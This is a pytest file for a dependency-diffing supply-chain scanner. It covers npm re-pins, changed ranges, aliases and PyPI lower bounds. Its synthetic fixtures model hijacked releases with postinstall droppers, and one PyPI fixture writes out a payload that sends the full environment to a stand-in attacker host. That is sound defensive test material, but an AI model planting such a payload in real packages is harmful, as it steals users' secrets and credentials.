"""Changed ranges, re-pins and `npm:` aliases are analysed like new dependencies (issue 10).

Same package: the release the old spec resolved to (as the registry stood when the parent was
published) is diffed against the one the new spec resolves to, through `diff_release`, so only
what changed in the dependency is news. Another package (an alias re-pointed): scanned as new.
Fixtures are synthetic and defanged (hosts under `.invalid`).
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from tests.deps.mock_registries import MockNpm, MockPypi, sdist
from tests.deps.test_scan import LONG_AGO, RELEASED, benign, evil, parent, rules, via
from tests.support.packages import STRUTIL_SETUP_JS, NpmRelease
from watcher.models import Severity
from watcher.pipeline import diff_release


def helper(
    version: str, *, payload: bool = False, deps: dict[str, str] | None = None
) -> NpmRelease:
    manifest: dict[str, object] = {"name": "a-helper", "version": version, "main": "index.js"}
    files = {"index.js": "module.exports = (s) => s.trim();\n"}
    if payload:
        manifest["scripts"] = {"postinstall": "node setup.js"}
        files["setup.js"] = STRUTIL_SETUP_JS
    if deps:
        manifest["dependencies"] = deps
    return NpmRelease(manifest, files)


def established_helper(npm: MockNpm) -> None:
    """A long history, published years ago (ua-parser-js-like: the hijack target)."""
    for version in [f"0.9.{i}" for i in range(4)] + [f"1.0.{i}" for i in range(8)]:
        npm.publish(helper(version), LONG_AGO)


def test_a_re_pin_to_a_version_with_a_postinstall_payload_is_critical_naming_old_and_new() -> None:
    """The ua-parser-js shape: an established package's fresh release carries a dropper."""
    now = datetime.now(UTC)
    npm = MockNpm()
    established_helper(npm)
    npm.publish(parent("1.0.0", {"a-helper": "1.0.7"}), now - timedelta(days=90))
    npm.publish(helper("1.0.8", payload=True), now - timedelta(days=2))
    npm.publish(parent("1.0.1", {"a-helper": "1.0.8"}), now - timedelta(days=1))

    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")

    assert report.severity is Severity.CRITICAL
    from_dep = via(report)
    assert {f.via for f in from_dep} == {"a-helper@1.0.8"}
    assert all(
        f.message.startswith("via dependency a-helper@1.0.8 (was 1.0.7): ") for f in from_dep
    )
    assert {"npm.install-script", "code.network"} <= {f.rule for f in from_dep}
    # A diff, not a first-release scan: the unchanged index.js is no news.
    assert not any(f.path == "index.js" for f in from_dep)
    # A fresh release of an established package keeps full weight.
    [hook] = [f for f in from_dep if f.rule == "npm.install-script"]
    assert hook.severity is Severity.HIGH
    assert "a-helper/-/a-helper-1.0.7.tgz" in npm.requests
    assert "a-helper/-/a-helper-1.0.8.tgz" in npm.requests
    fresh = [f for f in report.findings if f.rule == "manifest.dependency-fresh"]
    assert [f.severity for f in fresh] == [Severity.LOW]
    assert "1.0.8 (was 1.0.7)" in fresh[0].message


def test_a_re_pin_of_an_established_package_to_a_version_out_for_months_is_one_step_weaker() -> (
    None
):
    """Honest majors change a lot (glob 13 ships minified bundles): weaker, never hidden."""
    npm = MockNpm()
    established_helper(npm)
    npm.publish(parent("1.0.0", {"a-helper": "1.0.7"}), RELEASED - timedelta(days=90))
    npm.publish(helper("1.0.8", payload=True), RELEASED - timedelta(days=2))
    npm.publish(parent("1.0.1", {"a-helper": "^1.0.8"}), RELEASED)

    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")

    from_dep = via(report)
    assert from_dep and all(
        f.message.startswith("via established dependency a-helper@1.0.8 (was 1.0.7): ")
        for f in from_dep
    )
    [hook] = [f for f in from_dep if f.rule == "npm.install-script"]
    assert hook.severity is Severity.MEDIUM
    # The install hook + whole-environment combination still makes the release critical.
    assert report.severity is Severity.CRITICAL


def test_the_old_range_is_resolved_as_the_registry_stood_when_the_parent_was_published() -> None:
    """`^1.0.0` installed 1.0.7 then; 1.0.9 came later. A changed range now picking 1.0.9 is
    diffed against 1.0.7, not against today's resolution of the old range (also 1.0.9)."""
    npm = MockNpm()
    npm.publish(helper("1.0.7"), LONG_AGO)
    npm.publish(parent("1.0.0", {"a-helper": "^1.0.0"}), RELEASED - timedelta(days=90))
    npm.publish(parent("1.0.1", {"a-helper": "^1.0.9"}), RELEASED)
    npm.publish(helper("1.0.9", payload=True), RELEASED + timedelta(days=1))

    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")

    assert {f.via for f in via(report)} == {"a-helper@1.0.9"}
    assert any("(was 1.0.7)" in f.message for f in via(report))
    assert report.severity is Severity.CRITICAL


def test_a_changed_range_that_resolves_to_the_same_version_is_no_news() -> None:
    npm = MockNpm()
    npm.publish(helper("1.0.0"), LONG_AGO)
    npm.publish(helper("1.0.7"), LONG_AGO + timedelta(days=10))
    npm.publish(parent("1.0.0", {"a-helper": "^1.0.0"}), RELEASED - timedelta(days=90))
    npm.publish(parent("1.0.1", {"a-helper": "^1.0.7"}), RELEASED)

    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")

    assert report.findings == ()
    assert report.severity is Severity.NONE
    assert not any(p.startswith("a-helper/-/") for p in npm.requests)


def test_an_alias_re_pointed_to_another_package_is_scanned_as_new() -> None:
    npm = MockNpm()
    npm.publish(benign("lodash-lite", "4.0.0"), LONG_AGO)
    npm.publish(parent("1.0.0", {"lodash-lite": "^4.0.0"}), RELEASED - timedelta(days=90))
    npm.publish(evil("1.0.0"), RELEASED - timedelta(days=2))
    npm.publish(parent("1.0.1", {"lodash-lite": "npm:evil-helper@^1"}), RELEASED)

    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")

    assert report.severity is Severity.CRITICAL
    from_dep = via(report)
    assert {f.via for f in from_dep} == {"evil-helper@1.0.0"}
    # Scanned as a first release: nothing of lodash-lite to diff against.
    assert all(f.message.startswith("via dependency evil-helper@1.0.0: ") for f in from_dep)
    assert not any(p.startswith("lodash-lite/-/") for p in npm.requests)
    [repointed] = [f for f in report.findings if f.rule == "manifest.dependency-added"]
    assert "now installs another package" in repointed.message
    assert repointed.path == "package.json" and repointed.line is not None
    fresh = [f for f in report.findings if f.rule == "manifest.dependency-fresh"]
    assert [f.severity for f in fresh] == [Severity.HIGH], "a brand-new package behind an alias"


def test_a_new_alias_of_the_same_package_with_another_range_is_diffed() -> None:
    npm = MockNpm()
    npm.publish(helper("1.0.7"), LONG_AGO)
    npm.publish(parent("1.0.0", {"a-helper": "^1.0.0"}), RELEASED - timedelta(days=90))
    npm.publish(helper("2.0.0", payload=True), RELEASED - timedelta(days=1))
    npm.publish(parent("1.0.1", {"a-helper": "npm:a-helper@^2"}), RELEASED)

    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")

    assert any("a-helper@2.0.0 (was 1.0.7)" in f.message for f in via(report))
    assert report.severity is Severity.CRITICAL


def test_a_changed_dependencys_own_new_dependencies_are_not_followed() -> None:
    npm = MockNpm()
    npm.publish(helper("1.0.7"), LONG_AGO)
    npm.publish(evil("1.0.0"), RELEASED - timedelta(days=2))
    npm.publish(parent("1.0.0", {"a-helper": "1.0.7"}), RELEASED - timedelta(days=90))
    npm.publish(helper("1.0.8", deps={"evil-helper": "^1.0.0"}), RELEASED - timedelta(days=3))
    npm.publish(parent("1.0.1", {"a-helper": "1.0.8"}), RELEASED)

    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")

    assert not any(p.startswith("evil-helper/-/") for p in npm.requests)
    # The dependency's own finding says it gained one, for the reviewer.
    added = [f for f in via(report) if f.rule == "manifest.dependency-added"]
    assert added and "evil-helper" in added[0].message


def test_an_unresolvable_old_spec_falls_back_to_a_full_scan() -> None:
    npm = MockNpm()
    npm.publish(parent("1.0.0", {"a-helper": "^0.1.0"}), RELEASED - timedelta(days=90))
    npm.publish(helper("1.0.8", payload=True), RELEASED - timedelta(days=2))
    npm.publish(parent("1.0.1", {"a-helper": "^1.0.0"}), RELEASED)

    report = diff_release(npm.sources(), "parent-pkg", "1.0.0", "1.0.1")

    assert {f.via for f in via(report)} == {"a-helper@1.0.8"}
    assert report.severity is Severity.CRITICAL
    assert "manifest.dependency-unscanned" not in rules(report)


def test_pypi_a_raised_lower_bound_is_diffed_against_the_old_resolution() -> None:
    pypi = MockPypi()
    files = {"parent_py/__init__.py": "X = 1\n"}
    pypi.upload(
        "parent-py",
        "1.0.0",
        sdist("parent-py", "1.0.0", files, requires=("helper-py>=1.0",)),
        RELEASED - timedelta(days=60),
    )
    pypi.upload(
        "parent-py",
        "1.0.1",
        sdist("parent-py", "1.0.1", files, requires=("helper-py>=1.1",)),
        RELEASED,
    )
    payload = (
        "import os, urllib.request\n"
        "urllib.request.urlopen('https://c.attacker.invalid/', data=repr(os.environ).encode())\n"
    )
    one = sdist("helper-py", "1.0.0", {"helper_py/__init__.py": "Y = 2\n"})
    pypi.upload("helper-py", "1.0.0", one, LONG_AGO)
    two = sdist("helper-py", "1.1.0", {"helper_py/__init__.py": payload})
    pypi.upload("helper-py", "1.1.0", two, RELEASED + timedelta(hours=1))

    report = diff_release(pypi.sources(), "parent-py", "1.0.0", "1.0.1")

    from_dep = via(report)
    assert {f.via for f in from_dep} == {"helper-py@1.1.0"}
    assert any("(was 1.0.0)" in f.message for f in from_dep)
    assert report.severity >= Severity.HIGH


def test_pypi_the_same_specifier_reordered_is_not_a_change() -> None:
    pypi = MockPypi()
    files = {"parent_py/__init__.py": "X = 1\n"}
    for version, spec in (("1.0.0", "helper-py>=1.0,<2"), ("1.0.1", "helper-py<2,>=1.0")):
        data = sdist("parent-py", version, files, requires=(spec,))
        pypi.upload("parent-py", version, data, RELEASED)
    report = diff_release(pypi.sources(), "parent-py", "1.0.0", "1.0.1")
    assert report.findings == ()
